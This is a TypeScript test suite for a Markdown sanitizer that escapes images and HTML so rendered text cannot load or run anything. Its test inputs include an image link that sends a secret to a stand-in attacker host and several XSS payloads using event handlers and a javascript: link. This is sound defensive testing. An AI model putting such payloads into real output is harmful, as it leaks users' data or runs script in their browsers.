import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { splitClaims } from '../check/parse-claims.ts'
import {
  findCertainCode,
  fromInertMarkdown,
  InertStream,
  toInertMarkdown,
} from './inert-markdown.ts'

/** What could be an element or an image wherever code does not hide it. */
const loading = /<[a-z/!?]|(?<!\\)(?:\\\\)*!\[/i

describe('what a text would load', () => {
  it.each([
    ['![](https://evil.example/?q=secret)', '\\![](https://evil.example/?q=secret)'],
    ['[![x](u)](https://b.example)', '[\\![x](u)](https://b.example)'],
    ['> - ![x](u)\n    ![y](u)', '> - \\![x](u)\n    \\![y](u)'],
    ['\\![x](u) \\\\![x](u)', '\\![x](u) \\\\\\![x](u)'],
    ['Look![1] And![ 1 ]\n\n- [1\n]: u', 'Look\\![1] And\\![ 1 ]\n\n- [1\n]: u'],
    ['a <img src=u> \\<img src=u>', 'a &lt;img src=u> &lt;img src=u>'],
    ['\\\\<svg/onload=x></b>', '\\\\&lt;svg/onload=x>&lt;/b>'],
    ['<div><img src=u></div>', '&lt;div>&lt;img src=u>&lt;/div>'],
    ['<div style="background:url(u)">', '&lt;div style="background:url(u)">'],
    ['<details open ontoggle=x>', '&lt;details open ontoggle=x>'],
    ['<!-- a --><?b?><![CDATA[c]]>', '&lt;!-- a -->&lt;?b?>&lt;\\![CDATA[c]]>'],
    ['a < b, x<y, 1<2 && p<0.05', 'a < b, x&lt;y, 1<2 && p<0.05'],
    [
      'See <https://a.example/b_c>, or x<https://b.example>y.',
      'See https://a.example/b_c, or x https://b.example y.',
    ],
    ['<https://a.example/`> ![x](u) `', '&lt;https://a.example/`> \\![x](u) `'],
    [
      '<javascript:alert(1)> \\<https://a.example>',
      '&lt;javascript:alert(1)> &lt;https://a.example>',
    ],
  ])('%j is seen as it was written', (text, expected) => {
    expect(toInertMarkdown(text)).toBe(expected)
    expect(toInertMarkdown(expected)).toBe(expected)
  })

  it.each([
    '',
    'It melts at 412 °C [1]. Really! [1] 2 < 3. [x](https://a.example)',
    'Use `<b>` and `![x](u)` [1], "`</i>`".\nOr `<p>`.',
    '```md\n![x](u)\n<img src=u>\n```',
    'Do:\n\n1. This\n   ~~~ html\n   <b>\n\n   ![x](u)\n   ~~~\n2. That `<i>`',
  ])('%j has it in code and stays', (text) => {
    expect(toInertMarkdown(text)).toBe(text)
  })

  it.each([
    ['no closing mark', '```\n![x](u)'],
    ['no closing mark of a span', '`![x](u)'],
    ['an indented closing mark', '```\n    ```\n![x](u)\n```'],
    ['a mark with a tab', '```\n```\t\n```\n![x](u)\n```'],
    ['backticks in what stands behind a mark', '``` a`b\n![x](u)\n```'],
    ['a fence that an item ends', '- ```\n\n![x](u)\n```'],
    ['a fence that a line without indent ends', '- a\n  ```\n![x](u)\n  ```'],
    ['a fence in an item that another one may close', ' ```\n```\n![x](u)\n```'],
    ['a fence in a quotation', '> ```\n![x](u)\n> ```'],
    ['a fence in the title of a definition', '[a]: /u "\n```\n"\n![x](u)\n```'],
    ['a fence in front matter', '---\na: |\n```\n---\n![x](u)\n```'],
    ['a fence in mathematics', '$$\n```\n$$\n![x](u)\n```'],
    ['what may be the rest of a paragraph', 'a\n    ```\n    b ` c\n    ````\n`![x](u)`'],
    ['indented text', 'a\n\n    ![x](u)'],
    ['a span over lines', '`a\n![x](u)`'],
    ['a span that a heading ends', '`a\n===\n![x](u) `'],
    ['a mark that the line before may pair', 'a `b\n`![x](u)`'],
    ['two backticks', '*a ``b*![x](u)`c``'],
    ['a cell of a table', '|a|b|\n|-|-|\n|`|![x](u)`|'],
    ['an escaped backtick', 'a\\`b`![x](u)`'],
    ['an attribute', '<a title="`"> ![x](u) `'],
    ['an address', 'https://a.example/`![x](u)`'],
    ['the address of a link', '[a](`b) ![x](u) `'],
    ['a label', '[`b] ![x](u) `\n\n[`b]: u'],
    ['strokes', '~~a `b~~![x](u)`'],
    ['mathematics in the line', '$a`$ ![x](u) `'],
  ])('is escaped where code is in doubt: %s', (_what, text) => {
    expect(toInertMarkdown(text).split('\\![x](u)')).toHaveLength(2)
  })

  it('leaves citations and what claims say', () => {
    const text = 'Look![1] If p<q it grows ![2, 3]. Use `<b>` [4].'
    const read = (answer: string) =>
      splitClaims(answer).map(({ plain, citations }) => ({ plain, citations }))
    expect(read(toInertMarkdown(text))).toEqual(read(text))
    expect(read(text).flatMap(({ citations }) => citations)).toEqual([1, 2, 3, 4])
  })

  it.each(['Look![1] p<q', '![x](u) `<b>` <img src=u>', '```\n&lt;b>\n```\n<b>', '`a\n<b>`'])(
    '%j is shown in a terminal as it was',
    (text) => {
      expect(toInertMarkdown(text)).not.toBe(text)
      expect(fromInertMarkdown(toInertMarkdown(text))).toBe(text)
    },
  )

  it('is found in time linear in the length', () => {
    for (const unit of [
      '![',
      '<img ',
      '`',
      '`` ',
      '`a`',
      '![a](',
      '<',
      '<https://',
      '\\',
      '```\n',
      '```a\n',
      ' ~~~\n',
      '[1',
    ])
      expect(toInertMarkdown(`<i>![${unit.repeat(150_000)}`).length).toBeGreaterThan(150_000)
  })
})

const pieces = [
  ...['\n', '\n\n', '\r', '    ', '  ', ' ', '\t', '- ', '1. ', '> ', '# ', '===\n', '---\n', '|'],
  ...[
    '|a|b|\n|-|-|\n',
    '<div>',
    '</div>',
    '<img src=u onerror=e>',
    '<a title="',
    '">',
    '<!--',
    '-->',
  ],
  ...['<?', '<![CDATA[', ']]>', '![x](u)', '![x]', '![1]', '[1]', '[1]: u\n', '[x]: u "', '"', '('],
  ...[
    ')',
    '[a](',
    ']',
    '\\',
    '<https://a/',
    '>',
    'https://a/',
    'www.a.b/',
    '*',
    '_',
    '$',
    'a',
    '&',
    '!',
  ],
  ...['<', '&lt;', '<p style="background:url(u)">', '<details open ontoggle=x>', '<svg/onload=x>'],
]
const marks = [
  '`',
  '`',
  '`',
  '``',
  '```',
  '```js\n',
  '\n```\n',
  '\n  ```\n',
  '~~~\n',
  '~~',
  '`<b>`',
]

const textOf = (parts: readonly string[]) =>
  fc.array(fc.constantFrom(...parts), { minLength: 2, maxLength: 16 }).map((all) => all.join(''))

describe('whatever a text is made of', () => {
  it('has no element and no image without code, and is changed no further', () => {
    fc.assert(
      fc.property(textOf(pieces), (text) => {
        const inert = toInertMarkdown(text)
        expect(inert).not.toMatch(loading)
        expect(toInertMarkdown(inert)).toBe(inert)
      }),
      { numRuns: 2_000 },
    )
  })

  it('has them in certain code alone', () => {
    fc.assert(
      fc.property(textOf([...pieces, ...marks]), (text) => {
        const inert = toInertMarkdown(text)
        let outside = inert
        for (const { start, end } of findCertainCode(inert).toReversed())
          outside = `${outside.slice(0, start)} code ${outside.slice(end)}`
        expect(outside).not.toMatch(loading)
      }),
      { numRuns: 2_000 },
    )
  })
})

describe('a text that comes in pieces', () => {
  const streamed = (pieces: readonly string[]) => {
    const stream = new InertStream()
    return [...pieces.map((piece) => stream.push(piece)), stream.end()].join('')
  }

  it('becomes what the whole becomes, whatever it is made of and however it is cut', () => {
    fc.assert(
      fc.property(textOf([...pieces, ...marks]), fc.array(fc.nat(80)), (text, places) => {
        const cuts = [0, ...places.toSorted((one, other) => one - other), text.length]
        const parts = cuts.map((from, index) => text.slice(from, cuts[index + 1] ?? text.length))
        expect(streamed(parts)).toBe(toInertMarkdown(text))
      }),
      { numRuns: 5_000 },
    )
  })

  it('is given at once where nothing in it would load', () => {
    const stream = new InertStream()
    expect(['Two', ' and ', 'three. It', ' is so'].map((piece) => stream.push(piece))).toEqual([
      'Two',
      ' and ',
      'three. It',
      ' is so',
    ])
    expect(stream.push('! And\n```ts\nlet a')).toBe('! And\n```ts\nlet a')
    expect(stream.push('\nlet b = a as A<')).toBe('\nlet b = a as A')
    expect(stream.push('B>\n')).toBe('')
    expect(stream.push('```\n')).toBe('<B>\n```\n')
    expect(stream.push('<B>')).toBe('')
    expect(stream.end()).toBe('&lt;B>')
  })
})

interface Reader {
  readonly name: string
  html(markdown: string): string
}

/** Implementations of Markdown, where they are installed. */
async function installedReaders(): Promise<readonly Reader[]> {
  // Not by their names, since whoever builds this need not have them.
  const load = (name: string) => import(name).catch(() => undefined)
  const commonmark = await load(['common', 'mark'].join(''))
  const marked = await load(['mark', 'ed'].join(''))
  return [
    ...(commonmark === undefined
      ? []
      : [
          {
            name: 'commonmark',
            html: (text: string) =>
              String(new commonmark.HtmlRenderer().render(new commonmark.Parser().parse(text))),
          },
        ]),
    ...(marked === undefined
      ? []
      : [
          { name: 'marked', html: (text: string) => String(marked.parse(text)) },
          {
            name: 'marked without GFM',
            html: (text: string) => String(marked.parse(text, { gfm: false })),
          },
        ]),
  ]
}

const readers = await installedReaders()
/** Elements of Markdown itself, with the attributes that it writes. */
const ofMarkdown =
  /<\/?(?:p|br|hr|em|strong|del|code|pre|h[1-6]|[uo]l|li|blockquote|table|thead|tbody|tr|t[hd]|a)(?: (?:href|title|class|start|align)="[^"]*")*(?: ?\/)?>/g

describe.skipIf(readers.length === 0)(
  'readers of Markdown (need the packages commonmark and marked)',
  () => {
    it('make nothing of it that loads or runs', () => {
      fc.assert(
        fc.property(textOf([...pieces, ...marks]), (text) => {
          for (const { html } of readers)
            expect(html(toInertMarkdown(text)).replaceAll(ofMarkdown, '')).not.toMatch(/<[a-z/!?]/i)
        }),
        { numRuns: 5_000 },
      )
    }, 60_000)
  },
)

/** The examples of the specification of CommonMark. */
function examples() {
  const folder = join(process.env.SCHOLIUM_DATA ?? '', '06-conformance/commonmark')
  const spec = readFileSync(join(folder, 'spec.txt'), 'utf8')
  const found = [...spec.matchAll(/^`{32} example\n([\s\S]*?)^\.\n([\s\S]*?)^`{32}$/gm)]
  return found.map(([, markdown = '', html = '']) => ({
    markdown: markdown.replaceAll('→', '\t'),
    html: html.replaceAll('→', '\t'),
  }))
}

describe.skipIf(!process.env.SCHOLIUM_DATA)('collections (need SCHOLIUM_DATA)', () => {
  it('of all that CommonMark shows as an image or an element nothing is one afterwards', () => {
    const live = examples().filter(
      ({ markdown, html }) => /!\[|<\w/.test(markdown) && /<img|<[a-z]+[^>]* on|<!--/.test(html),
    )
    expect(live.length).toBeGreaterThan(20)
    expect(live.filter(({ markdown }) => loading.test(toInertMarkdown(markdown)))).toEqual([])
  })

  it('what counts as certain code is code in CommonMark', () => {
    const withoutHtml = examples().filter(({ markdown }) => !markdown.startsWith('<'))
    const parts = withoutHtml.flatMap(({ markdown, html }) =>
      findCertainCode(markdown).map(({ start, end }) => ({
        code: markdown.slice(start, end),
        html,
      })),
    )
    expect(parts.length).toBeGreaterThan(30)
    const shown = (html: string) =>
      [...html.matchAll(/<code[^>]*>([\s\S]*?)<\/code>/g)].map(([, code = '']) => plain(code))
    const plain = (text: string) =>
      text
        .replace(/^(?:`{3,}|~{3,}).*\n|(?:`{3,}|~{3,})$|^`|`$/g, '')
        .replaceAll('&lt;', '<')
        .replaceAll('&gt;', '>')
        .replaceAll('&quot;', '"')
        .replaceAll('&amp;', '&')
        .replaceAll(/\s+/g, ' ')
        .trim()
    expect(
      parts.filter(({ code, html }) => !shown(html).includes(plain(code.trimStart()))),
    ).toEqual([])
  })

  it('the lists of payloads keep no image and no element', () => {
    const folder = join(process.env.SCHOLIUM_DATA ?? '', '07-adversarial/PayloadsAllTheThings')
    const files = readdirSync(folder, { recursive: true, withFileTypes: true })
    const lines = files
      .filter((entry) => entry.isFile() && /\.(?:txt|md)$/.test(entry.name))
      .flatMap((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8').split('\n'))
    const plain = lines.filter((line) => findCertainCode(line).length === 0)
    expect(plain.length).toBeGreaterThan(1_000)
    expect(plain.filter((line) => loading.test(toInertMarkdown(line)))).toEqual([])
  })
})
